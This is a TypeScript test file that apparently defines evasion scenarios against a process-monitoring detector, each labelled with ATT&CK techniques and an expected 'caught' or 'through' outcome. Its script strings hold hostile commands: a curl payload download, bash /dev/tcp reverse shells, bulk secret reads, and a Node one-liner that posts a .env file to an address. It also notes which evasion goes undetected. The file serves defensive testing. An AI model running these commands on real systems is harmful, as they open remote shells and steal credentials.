import { evasions, HUNTED, SECRETS } from "./evasion.ts";
import { prepared, PROGRAM } from "./program.ts";

/** Only of a shell at a connection: a story is not over because the tool was noticed that begins it. */
const SHELL = ["T1095", "T1571"] as const;

/** Losing the trail: nobody above, nobody twice, nothing fast, everything as usual, or all of it under a flood. */
export const TRAILS = evasions([
  {
    id: "evasion.double-fork",
    title: "a download that becomes a shell at a connection, run by an orphan in a session of its own",
    techniques: SHELL,
    needs: ["cc", "curl"],
    prepare: prepared(),
    script: `act; curl -s -o $HOOD/x http://$FAR/payload; chmod 755 $HOOD/x; ${PROGRAM} orphan $HOOD/x -c 'exec $HOOD/x -i >& /dev/tcp/'$FAR'/4444 0>&1'`,
    hides: "reverse-shell",
    outcome: "caught",
    because:
      "the orphan is told with its ancestors, whoever has adopted it, and what it came to do with the incident of the tool that began it",
  },
  {
    id: "evasion.scattered-hunt",
    title: "each secret is read by an orphan of its own",
    techniques: HUNTED,
    needs: ["cc"],
    prepare: prepared(),
    script: `act; ${PROGRAM} scatter 30 ${SECRETS}; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because: "sorts of secrets are counted for whoever had them read as well, and an orphan keeps its ancestors",
  },
  {
    id: "evasion.slow-drip",
    title: "one secret every two seconds, each by another orphan",
    techniques: HUNTED,
    needs: ["cc"],
    variant: "slow",
    seconds: 14,
    prepare: prepared(),
    script: `act; ${PROGRAM} scatter 2000 ${SECRETS}; sleep 0.5`,
    hides: "credentials",
    outcome: "caught",
    because:
      "what was sought is kept for half an hour; who takes longer over it, or comes again by another service, is not caught",
  },
  {
    id: "evasion.flood-first",
    title:
      "three seconds of opens, removals and forks as fast as they go, and a shell at a connection in the midst of it",
    techniques: SHELL,
    needs: ["cc", "bash"],
    seconds: 14,
    prepare: prepared(),
    script: `${PROGRAM} flood 4 /bin/true & ${PROGRAM} flood 4 /bin/true & sleep 2; act; bash -c 'exec bash -i >& /dev/tcp/'$FAR'/4444 0>&1'; wait`,
    hides: "reverse-shell",
    outcome: "caught",
    because:
      "starts of programs have room left where opens have none, and half a million of those were lost; on a machine that others kept busy as well, who floods was told and the shell was not",
  },
  {
    id: "evasion.mimicry",
    title:
      "the exploited server's own program reads its own file and hands it to the address that it always asks, in its usual order",
    techniques: ["T1041", "T1048", "T1552", "T1552.001"],
    script: `act; /opt/portal/bin/portal -e 'const f=require("fs"),c=require("child_process"); const s=f.readFileSync("/srv/portal/.env","utf8");
fetch("http://10.20.0.5:8080/",{method:"POST",body:s}).then(r=>r.text()).then(()=>{c.spawnSync("/usr/bin/sha256sum",["/srv/portal/index.html"]);c.spawnSync("/usr/bin/date")})'; sleep 0.5`,
    hides: "credentials",
    outcome: "through",
    because: "programs, files, children and addresses are those of every day; what is in the bytes is not looked at",
  },
]);
